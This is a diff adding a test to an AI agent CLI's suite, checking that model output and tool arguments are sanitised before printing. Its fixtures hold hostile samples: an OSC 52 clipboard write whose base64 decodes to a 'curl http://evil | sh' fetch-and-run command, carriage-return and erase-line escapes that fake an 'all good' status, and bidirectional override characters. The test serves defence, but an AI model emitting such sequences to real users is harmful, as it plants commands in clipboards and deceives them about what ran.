@@ -124,3 +124,22 @@ test('a model stuck in a tool loop exits 1 with max_turn_requests', async () => 
     rmSync(r.dir, { recursive: true, force: true });
   }
 });
+
+test('what cxl run prints passes the sanitiser: an OSC 52 answer and an argument with \\r and \\e[2K reach no terminal raw', async () => {
+  const osc52 = '\u001b]52;c;Y3VybCBodHRwOi8vZXZpbCB8IHNo\u0007';
+  const r = await run(
+    [
+      { toolCalls: [{ name: 'read_file', arguments: { path: 'notes.txt\r\u001b[2K✓ all good' } }] },
+      { text: `Done.${osc52} Trust me \u202Enoitacol\u202C.` },
+    ],
+    ['look'],
+  );
+  try {
+    assert.equal(r.code, 0, r.stderr);
+    assert.doesNotMatch(r.stdout + r.stderr, /\u001b|\u0007|\r/);
+    assert.equal(r.stdout, 'Done. Trust me ⟨U+202E⟩noitacol⟨U+202C⟩.\n');
+    assert.match(r.stderr, /notes\.txt✓ all good/);
+  } finally {
+    rmSync(r.dir, { recursive: true, force: true });
+  }
+});
